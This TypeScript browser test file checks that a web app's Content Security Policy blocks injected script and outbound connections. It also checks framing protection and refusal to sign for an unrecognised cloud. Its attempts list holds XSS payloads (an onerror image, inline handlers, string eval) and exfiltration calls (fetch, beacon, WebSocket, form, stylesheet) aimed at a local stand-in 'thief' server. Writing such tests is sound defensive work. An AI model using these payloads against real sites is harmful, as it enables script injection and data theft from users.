// What the page cannot be talked into, in Chromium: foreign script, foreign connections, another cloud.

import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, test } from "node:test";
import type { Browser, Page } from "playwright-core";
import { hex } from "../src/bytes.ts";
import { executable, launch } from "./browser.ts";
import { FakeCloud } from "./cloud.ts";
import { random, TestOwner } from "./kit.ts";

const skip = executable ? false : "no Chromium: apt install chromium, or set CHROMIUM";
const wait = { timeout: 15_000 };
const id = (testid: string) => `[data-testid="${testid}"]`;

let browser: Browser;
let cloud: FakeCloud;
let base: string;
let owner: TestOwner;
let thief: Server;
let theirs: string;
let reached = 0; // requests that came to the thief

if (!skip) {
  before(async () => {
    browser = await launch();
    cloud = new FakeCloud();
    base = await cloud.listen();
    owner = await TestOwner.make();
    thief = createServer((_, a) => {
      reached++;
      a.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/javascript" }).end("globalThis.stolen = true;");
    });
    await new Promise<void>((done) => thief.listen(0, "127.0.0.1", done));
    theirs = `http://localhost:${(thief.address() as AddressInfo).port}`;
  });

  after(async () => {
    await browser.close();
    await cloud.close();
    thief.closeAllConnections();
    await new Promise((done) => thief.close(done));
  });
}

async function visit(): Promise<Page> {
  const code = hex(random(8));
  cloud.codes.set(code, owner);
  const page = await (await browser.newContext()).newPage();
  await page.goto(`${base}/#code=${code}`);
  await page.waitForSelector(`${id("status")}[data-state="live"]`, wait);
  return page;
}

const thiefs = "THIEF"; // stands for an address that is known only when the tests run

/** Trusted types refuse some of it before the sources of scripts are looked at. */
const script = /^(script-src|require-trusted-types-for)/;

/** Each is what somebody would do who got markup or a little script into the page; it returns what it got, or throws. */
const attempts: [string, RegExp, (page: Page) => Promise<unknown>][] = [
  ["an inline script", script, (page) => page.evaluate(() => {
    const s = document.createElement("script");
    (s as any).append("globalThis.stolen = true");
    document.body.append(s);
  })],
  ["an inline handler", script, (page) => page.evaluate(() => {
    const b = document.createElement("button");
    b.setAttribute("onclick", "globalThis.stolen = true");
    document.body.append(b);
    b.click();
  })],
  ["markup as HTML", script, (page) => page.evaluate(() => {
    document.querySelector("#served")!.innerHTML = "<img src=x onerror='globalThis.stolen = true'>";
  })],
  ["a policy of its own for HTML", /^trusted-types/, (page) => page.evaluate(() => {
    const any = (globalThis as any).trustedTypes.createPolicy("any", { createHTML: (s: string) => s });
    document.querySelector("#served")!.innerHTML = any.createHTML("<b>x</b>");
  })],
  ["a script of another origin", script, (page) => page.evaluate((src) => {
    const s = document.createElement("script");
    s.src = src;
    document.body.append(s);
  }, `${thiefs}/x.js`)],
  ["text as script", script, (page) => page.evaluate(() => void setTimeout("globalThis.stolen = true" as never, 0))],
  ["a connection to another origin", /^connect-src/, (page) => page.evaluate((to) => fetch(`${to}/?seed`).then(() => ((globalThis as any).stolen = true)), thiefs)],
  ["a beacon", /^connect-src/, (page) => page.evaluate((to) => void navigator.sendBeacon(to, "seed"), thiefs)],
  ["a WebSocket", /^connect-src/, (page) => page.evaluate((to) => void new WebSocket(to.replace("http", "ws")), thiefs)],
  ["a picture of another origin", /^img-src/, (page) => page.evaluate((to) => void (new Image().src = `${to}/?seed`), thiefs)],
  ["a frame", /^frame-src/, (page) => page.evaluate((to) => {
    const f = document.createElement("iframe");
    f.src = to;
    document.body.append(f);
  }, thiefs)],
  ["a style of another origin", /^style-src/, (page) => page.evaluate((to) => {
    const l = document.createElement("link");
    l.rel = "stylesheet";
    l.href = `${to}/?seed`;
    document.body.append(l);
  }, thiefs)],
  ["an inline style", /^style-src/, (page) => page.evaluate(() => {
    const s = document.createElement("style");
    s.append("* { background: url('http://localhost:1/?seed') }");
    document.body.append(s);
  })],
  ["a form to another origin", /^form-action/, (page) => page.evaluate((to) => {
    const f = document.createElement("form");
    f.action = to;
    document.body.append(f);
    f.submit();
  }, thiefs)],
  ["another base for addresses", /^base-uri/, (page) => page.evaluate((to) => {
    const b = document.createElement("base");
    b.href = to;
    document.head.append(b);
  }, thiefs)],
];

test("closed: whoever gets into the page gets nothing out of it", { skip }, async (t) => {
  const page = await visit();
  await page.evaluate(() => {
    (globalThis as any).violated = [];
    document.addEventListener("securitypolicyviolation", (e) => (globalThis as any).violated.push(e.effectiveDirective));
  });
  for (const [what, directive, attempt] of attempts) {
    await t.test(what, async () => {
      await page.evaluate(() => ((globalThis as any).violated = []));
      await attempt(standIn(page)).catch(() => undefined); // an exception is one way to be refused
      await page.waitForFunction((d) => (globalThis as any).violated.some((v: string) => new RegExp(d).test(v)), directive.source, wait);
      assert.equal(await page.evaluate(() => (globalThis as any).stolen), undefined);
    });
  }
  assert.equal(reached, 0, "nobody else was asked for anything");
  await page.context().close();
});

/** standIn puts the thief's address in the place of its name. */
function standIn(page: Page): Page {
  return { evaluate: (f: never, argument?: string) => page.evaluate(f, (argument?.replace(thiefs, theirs) ?? undefined) as never) } as Page;
}

test("closed: the page is in nobody's frame, and no window of another origin holds on to it", { skip }, async () => {
  const page = await (await browser.newContext()).newPage();
  const headers = (await page.goto(base))!.headers();
  assert.match(headers["content-security-policy"]!, /frame-ancestors 'none'/);
  await page.context().close();
});

test("closed: a key signs for the cloud that it knows, and for no other", { skip }, async () => {
  const page = await visit();
  await page.reload();
  await page.waitForSelector(`${id("status")}[data-state="live"]`, wait);
  const known = cloud.fleet;
  cloud.fleet = "d2".repeat(32);
  try {
    cloud.login = undefined;
    await page.reload();
    await page.getByText("This is another cloud").waitFor(wait);
    const told = await page.locator("main").innerText();
    assert.ok(told.includes(known) && told.includes(cloud.fleet));
    assert.match(told, /signs nothing for it/);
    assert.equal(await page.locator(id("status")).getAttribute("data-state"), "denied");
    assert.equal(cloud.login, undefined, "nothing was signed");
    // The machine that holds the key may bring it anew, for the cloud that it knows now.
    const code = hex(random(8));
    cloud.codes.set(code, owner);
    await page.goto(`${base}/#code=${code}`);
    await page.waitForSelector(`${id("status")}[data-state="live"]`, wait);
  } finally {
    cloud.fleet = known;
  }
  await page.reload();
  await page.getByText("This is another cloud").waitFor(wait);
  await page.context().close();
});

test("closed: a cloud that changes its name while the page is open gets no signature either", { skip }, async () => {
  const page = await visit();
  const known = cloud.fleet;
  cloud.login = undefined;
  cloud.fleet = "d3".repeat(32);
  try {
    cloud.forgetSessions();
    cloud.hangUp();
    await page.waitForSelector(`${id("status")}[data-state="denied"]`, wait);
    assert.match(await page.locator(id("status")).innerText(), /another cloud/);
    assert.equal(cloud.login, undefined);
  } finally {
    cloud.fleet = known;
  }
  await page.context().close();
});

test("closed: a browser that promises nothing is told of where the owner's name stands", { skip }, async () => {
  const page = await visit();
  await page.click(id("owner"));
  assert.match(await page.locator(id("not-persisted")).innerText(), /not promised to keep your key[^]*Safari[^]*seven days[^]*private window[^]*recovery/);
  await page.context().close();
});
